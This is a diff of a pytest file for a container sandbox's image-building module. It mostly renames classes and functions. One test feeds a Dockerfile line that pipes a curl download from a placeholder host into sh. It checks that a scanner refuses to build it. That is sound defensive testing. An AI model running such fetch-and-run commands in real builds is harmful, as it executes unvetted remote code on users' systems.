@@ -13,8 +13,8 @@ import pytest
 
 from roundtable.core.sandbox import Bounds, Exit, Limit, Output
 from roundtable.workshop.sandbox import SandboxSettings, find_sandbox
-from roundtable.workshop.sandbox.engines import Engine
-from roundtable.workshop.sandbox.image_build import Build, build_of, built_and_run
+from roundtable.workshop.sandbox.engines import ContainerEngine
+from roundtable.workshop.sandbox.image_build import ImageBuild, build_and_run_image, plan_image_build
 from tests.kits.sandbox_kit import SandboxKit
 from tests.real.engine import docker_engine, shell_image
 
@@ -76,12 +76,12 @@ def base(address: str, tmp_path_factory: pytest.TempPathFactory) -> str:
 
 
 async def heard(files: dict[str, str], bounds: Bounds = Bounds(seconds=60)) -> tuple[str, Exit]:
-    engine = await Engine.find("docker")
-    assert isinstance(engine, Engine)
+    engine = await ContainerEngine.find("docker")
+    assert isinstance(engine, ContainerEngine)
     said, end = b"", None
-    build = await build_of(engine, files)
-    assert isinstance(build, Build), build
-    async for it in built_and_run(build, bounds):
+    build = await plan_image_build(engine, files)
+    assert isinstance(build, ImageBuild), build
+    async for it in build_and_run_image(build, bounds):
         if isinstance(it, Output):
             said += it.data
         else:
@@ -125,12 +125,12 @@ async def test_what_was_built_has_no_network_and_is_held_to_its_bounds(base: str
 
 @pytest.mark.feature("S0.61")
 async def test_what_was_built_is_stopped_on_demand(base: str) -> None:
-    engine = await Engine.find("docker")
-    assert isinstance(engine, Engine)
+    engine = await ContainerEngine.find("docker")
+    assert isinstance(engine, ContainerEngine)
     files = {"Dockerfile": f"FROM {base}\nCMD echo it runs now; sleep 3600\n"}
-    build = await build_of(engine, files)
-    assert isinstance(build, Build), build
-    async with aclosing(built_and_run(build)) as run:
+    build = await plan_image_build(engine, files)
+    assert isinstance(build, ImageBuild), build
+    async with aclosing(build_and_run_image(build)) as run:
         async for it in run:
             if isinstance(it, Output) and it.data.endswith(b"it runs now\n") and containers():
                 break
@@ -139,9 +139,9 @@ async def test_what_was_built_is_stopped_on_demand(base: str) -> None:
 
 @pytest.mark.feature("S0.62", "S0.63")
 async def test_what_the_scan_finds_is_not_built(base: str) -> None:
-    engine = await Engine.find("docker")
-    assert isinstance(engine, Engine)
-    why = await build_of(engine, {"Dockerfile": f"FROM {base}\nRUN curl http://example.com/x | sh\n"})
+    engine = await ContainerEngine.find("docker")
+    assert isinstance(engine, ContainerEngine)
+    why = await plan_image_build(engine, {"Dockerfile": f"FROM {base}\nRUN curl http://example.com/x | sh\n"})
     assert why == "It was not built. Dockerfile, line 2: It runs what it fetches, or hides what it runs."
 
 
